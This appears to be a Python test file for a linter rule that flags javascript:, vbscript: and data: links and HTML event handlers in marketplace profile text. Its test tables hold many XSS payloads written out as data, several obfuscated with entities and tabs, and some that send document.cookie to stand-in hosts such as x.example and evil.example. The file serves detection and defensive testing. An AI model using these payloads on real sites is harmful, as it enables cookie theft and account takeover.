"""link-script-url (GC406): javascript:, vbscript: and data: links wherever a link can be,
with exact positions, as browsers read them; the prose and code that must stay clean."""
from __future__ import annotations

import pytest
from perf_support import assert_linear
from table_support import table_test

from gigcheck import lint_text
from gigcheck.detectors.script_urls import (
    browser_view,
    code_spans,
    find_script_attrs,
    find_script_urls,
    script_scheme,
    unescape_destination,
)
from gigcheck.policy.config import load_config

SCHEMES = frozenset(load_config(discover=False).vocab["links"]["script_schemes"])


@pytest.fixture(scope="module")
def cfg():
    return load_config(discover=False)


def script_links(text: str, config) -> list[str]:
    """Excerpts (the source as written) of the GC406 findings, which must be errors."""
    out = []
    for f in lint_text(text, config=config):
        if f.rule == "GC406":
            assert f.category == "links" and str(f.severity) == "error"
            out.append(f.excerpt)
    return out


# --- where a link can be, in every disguise -------------------------------------------------

FLAGGED = [
    # Markdown links markdown-it refuses (they stay text), with spaces and <...> around
    ("[See my portfolio](javascript:alert(document.cookie))", "javascript:alert(document.cookie)"),
    ("Click [here](JavaScript:void(0)) for more.", "JavaScript:void(0)"),
    ("Watch the [demo]( javascript:alert(1) ) first.", "javascript:alert(1)"),
    ("[x](<javascript:alert(1)>)", "javascript:alert(1)"),
    ("[x]( <javascript:alert(1)> )", "javascript:alert(1)"),
    ("[x](javascript:alert(1) \"My title\")", "javascript:alert(1)"),
    ("[Portfolyom](javascript://%0aalert(1))", "javascript://%0aalert(1)"),
    ("[サンプル](javascript:void(location='https://evil.example'))", "javascript:void(location='https://evil.example')"),
    # entities and escapes in the scheme: the excerpt is what the seller wrote
    ("My [reel](java&#x73;cript:alert(1)) is here.", "java&#x73;cript:alert(1)"),
    ("[Voir](jav&#97;script:alert(1))", "jav&#97;script:alert(1)"),
    ("[x](javascript&colon;alert(1))", "javascript&colon;alert(1)"),
    ("[x](&#106;avascript:alert(1))", "&#106;avascript:alert(1)"),
    ("[x](javascript\\:alert(1))", "javascript\\:alert(1)"),
    # a tab entity passes the parser's check: a real link whose target is read as browsers do
    ("[x](java&#x09;script:alert(1))", "java&#x09;script:alert(1)"),
    ("[x](java&Tab;script:alert(1))", "java&Tab;script:alert(1)"),
    # vbscript and data, any media type, images too
    ("[作品集](vbscript:Execute(\"x\"))", 'vbscript:Execute("x")'),
    ("Grab a [sample](data:text/html;base64,PHNjcmlwdD4=) now", "data:text/html;base64,PHNjcmlwdD4="),
    ("[Zobacz](data:image/svg+xml;base64,PHN2Zz4=)", "data:image/svg+xml;base64,PHN2Zz4="),
    ("![logo](data:image/png;base64,iVBORw0KGgo=)", "data:image/png;base64,iVBORw0KGgo="),
    ("![logo](javascript:alert(1))", "javascript:alert(1)"),
    ("[x](data:,Hello%2C%20World)", "data:,Hello%2C%20World"),
    # reference definitions, autolinks
    ("Check my [portfolio][1].\n\n[1]: javascript:alert('x')", "javascript:alert('x')"),
    ("[portfolio][demo]\n\n[demo]: <vbscript:msgbox(1)>", "vbscript:msgbox(1)"),
    ("  [1]:   JAVASCRIPT:alert(1)\n\n[a][1]", "JAVASCRIPT:alert(1)"),
    ("Live demo: <javascript:alert(1)>", "javascript:alert(1)"),
    # (inline HTML inside is not run text: the excerpt spans the source up to the URL's end)
    ("Demo <data:text/html,<b>hi</b>>", "data:text/html,<b>hi"),
    # bare, alone where a link would be (after a label, in a list item or a table cell)
    ("Demo: javascript:alert(1)", "javascript:alert(1)"),
    ("- Portfolio → javascript:void(0)", "javascript:void(0)"),
    ("| Demo | javascript:alert(1) |\n|---|---|\n| a | b |", "javascript:alert(1)"),
    # (the inline <script> is HTML a renderer keeps: it runs too)
    ("Sample: data:text/html,<script>alert(1)</script>", ["data:text/html,<script>alert(1)", "<script>"]),
    # HTML: any tag, any quoting, entities, tabs and line breaks in the scheme
    ('<a href="javascript:fetch(\'//x.example/\'+document.cookie)">Reel</a>', "javascript:fetch('//x.example/'+document.cookie)"),
    ("<a href='vbscript:msgbox(1)'>Brochure</a>", "vbscript:msgbox(1)"),
    ("<a href=javascript:alert(1)>x</a>", "javascript:alert(1)"),
    ('<A HREF="JAVASCRIPT:alert(1)">x</A>', "JAVASCRIPT:alert(1)"),
    ('<a href="java&#09;script:alert(1)">x</a>', "java&#09;script:alert(1)"),
    ('<a href="java&#x0A;script:alert(1)">x</a>', "java&#x0A;script:alert(1)"),
    ('<a href=" &#106;avascript&colon;alert(1)">x</a>', "&#106;avascript&colon;alert(1)"),
    ('<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
     "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)"),
    ('<a href="jav\nascript:alert(1)">x</a>', "jav\nascript:alert(1)"),
    ('<iframe src="data:text/html,%3Cscript%3E"></iframe>', "data:text/html,%3Cscript%3E"),
    ('<iframe src="  DATA:text/html,<script>alert(1)</script>"></iframe>', "DATA:text/html,<script>alert(1)</script>"),
    ("<button formaction='javascript:alert(1)'>Go</button>", "javascript:alert(1)"),
    ('<form action="javascript:alert(1)"><input type=submit></form>', "javascript:alert(1)"),
    ('<object data="data:text/html;base64,PHNjcmlwdD4="></object>', "data:text/html;base64,PHNjcmlwdD4="),
    ("x <svg><a xlink:href=javascript:alert(1)><text>y</text></a></svg>", "javascript:alert(1)"),
    ('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "javascript:alert(1)"),
    ('<iframe srcdoc="&lt;a href=&quot;javascript:alert(1)&quot;&gt;x&lt;/a&gt;"></iframe>',
     "&lt;a href=&quot;javascript:alert(1)&quot;&gt;x&lt;/a&gt;"),
    # event handlers run code the same way
    ('<img src="x.png" onerror="alert(1)">', "alert(1)"),
    ('<a href="#" onclick="location=\'//evil.example\'">Samples</a>', "location='//evil.example'"),
    ("<script>alert(1)</script>", "<script>"),
    ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "&lt;script&gt;alert(1)&lt;/script&gt;"),
    # HTML a parser did not take as HTML (no closing ">"): the attribute is still found in text
    ('Click <a href="javascript:alert(1)" and see', "javascript:alert(1)"),
]


@table_test("text,excerpt", FLAGGED, ids=[t[:40] for t, _ in FLAGGED])
def test_script_links_are_found_where_they_are(text, excerpt, cfg):
    assert script_links(text, cfg) == (excerpt if isinstance(excerpt, list) else [excerpt])


CLEAN = [
    # the words in prose, whatever the punctuation around them
    "Skills: JavaScript: React, Vue, Node.",
    "I write JavaScript, data: charts and dashboards.",
    "Storage data: 5 GB per project.",
    "vbscript: legacy macros fixed in a day.",
    "JavaScript:React developer with 5 years of experience.",
    "Languages: JavaScript:(ES6, TypeScript)",
    "Storage: data:5GB, bandwidth: unlimited",
    "Languages — JavaScript: ES6+, TypeScript: strict.",
    "Data: cleaned, deduplicated and delivered as CSV.",
    "Tech stack: data:image handling in Python.",
    "I fix javascript:void(0) links on old sites.",
    "javascript:void(0) link fixes and SEO audits",
    "- javascript:void(0) cleanup in old themes",
    "Removing javascript:alert(1) popups from WordPress themes.",
    "Le JavaScript : mon langage préféré. Données: 10 Go.",
    "Javascript-Entwicklung: React, Vue. Daten: bis 5 GB.",
    # code a buyer reads as code
    "I fix `javascript:void(0)` links and `[x](javascript:alert(1))` bugs.",
    "Example: `<a href=\"javascript:void(0)\">`",
    "Use ``data:text/html,`` URLs only in tests.",
    "```html\n<a href=\"javascript:void(0)\" onclick=\"track()\">Menu</a>\n```",
    "    [x](javascript:alert(1))",
    "~~~\nDemo: javascript:alert(1)\n~~~",
    # the words inside web links and their queries
    "[Tutorial](https://youtube.com/watch?v=abc&t=javascript:1)",
    "[x](https://www.youtube.com/results?search_query=javascript:tutorial)",
    # HTML comments are not shown; attributes that are not URLs
    "<!-- [x](javascript:alert(1)) -->",
    '<abbr title="javascript:alert(1)">JS</abbr>',
    '<a href="https://www.youtube.com/watch?v=abc" data-note="javascript:x">Reel</a>',
    # link text, not the destination
    "[javascript:alert(1)](https://www.youtube.com/watch?v=abc)",
]


@table_test("text", CLEAN, ids=[t[:40] for t in CLEAN])
def test_prose_and_code_are_not_script_links(text, cfg):
    assert script_links(text, cfg) == []


def test_one_finding_per_link_and_no_host_finding_for_it(cfg):
    text = "[x](javascript:fetch('https://evil.example/'+document.cookie)) and [y](https://evil.example)"
    found = [(f.rule, f.excerpt) for f in lint_text(text, config=cfg) if f.category == "links"]
    assert found == [
        ("GC406", "javascript:fetch('https://evil.example/'+document.cookie)"),
        ("GC401", "https://evil.example"),
    ]


def test_a_script_tag_with_a_source_is_also_a_disallowed_host(cfg):
    found = [(f.rule, f.excerpt) for f in lint_text('<script src="https://evil.example/x.js"></script>', config=cfg)
             if f.category == "links"]
    assert found == [("GC406", '<script src="https://evil.example/x.js">'), ("GC401", "https://evil.example/x.js")]


def test_messages_name_the_scheme(cfg):
    by_excerpt = {f.excerpt: f for f in lint_text(
        "[a](javascript:alert(1)) [b](data:text/html,x)\n\n<img src=x onmouseover=alert(1)>", config=cfg
    ) if f.rule == "GC406"}
    assert "javascript: link" in by_excerpt["javascript:alert(1)"].message
    assert "data: link" in by_excerpt["data:text/html,x"].message
    assert "onmouseover attribute" in by_excerpt["alert(1)"].message
    assert "SoundCloud" in (by_excerpt["javascript:alert(1)"].suggestion or "")


def test_a_pack_without_script_schemes_finds_none(tmp_path):
    cfg_file = tmp_path / "gigcheck.toml"
    cfg_file.write_text("[vocab.links]\nscript_schemes = []\n", encoding="utf-8")
    config = load_config(config_file=str(cfg_file), discover=False)
    assert script_links("[x](javascript:alert(1))", config) == []


# --- the detector on its own ----------------------------------------------------------------


def test_browser_view_and_scheme():
    assert browser_view(" \x01java\tscr\nipt:alert(1) ") == "javascript:alert(1)"
    assert script_scheme("JaVaScRiPt:x", SCHEMES) == "javascript"
    assert script_scheme("java script:x", SCHEMES) is None
    assert script_scheme("https://a.com/javascript:x", SCHEMES) is None
    assert script_scheme("datax:x", SCHEMES) is None
    assert unescape_destination("java&#x73;cript\\:a&amp;b") == "javascript:a&b"
    assert unescape_destination("a\\b") == "a\\b"  # only punctuation is escaped


def test_text_offsets_and_contexts():
    text = "See [a](javascript:x()) or <vbscript:y> then\n[1]: data:text/html,z"
    got = [(text[s.start : s.end], s.scheme, s.context) for s in find_script_urls(text, SCHEMES)]
    assert got == [
        ("javascript:x()", "javascript", "link"),
        ("vbscript:y", "vbscript", "autolink"),
        ("data:text/html,z", "data", "refdef"),
    ]


def test_attribute_offsets():
    html = '<a\n  HREF = " java&#09;script:x" onclick=\'y()\' href="https://a.com">'
    got = [(html[s.start : s.end], s.url, s.context) for s in find_script_attrs(html, SCHEMES)]
    assert got == [("java&#09;script:x", "javascript:x", "html"), ("y()", "onclick=y()", "handler")]


def test_code_spans():
    src = "a `b` c ``d ` e`` \\`f` `g"
    spans = [src[a:b] for a, b in code_spans(src)]
    assert spans == ["b", "d ` e", " "]  # "\`" opens nothing; the lone "`g" is literal
    assert code_spans("x `a` y", 2, 5) == [(3, 4)]


@pytest.mark.perf
@pytest.mark.parametrize(
    "piece",
    ["](javascript:(", "<javascript:", "[1]: javascript:", "Demo: javascript:alert(", "`", "` ``", "href=javascript:",
     "java\tjava\tscript", "data:data:data:"],
)
def test_linear_on_hostile_text(piece):
    assert_linear(lambda k: find_script_urls(piece * k, SCHEMES), 2000, f"find_script_urls on {piece!r}")
    assert_linear(lambda k: code_spans(piece * k), 2000, f"code_spans on {piece!r}")
    html = f'<a href="{piece}" ' * 2 + f"<a href={piece}>" * 1
    assert_linear(lambda k: find_script_attrs(html * k, SCHEMES), 1000, "find_script_attrs")
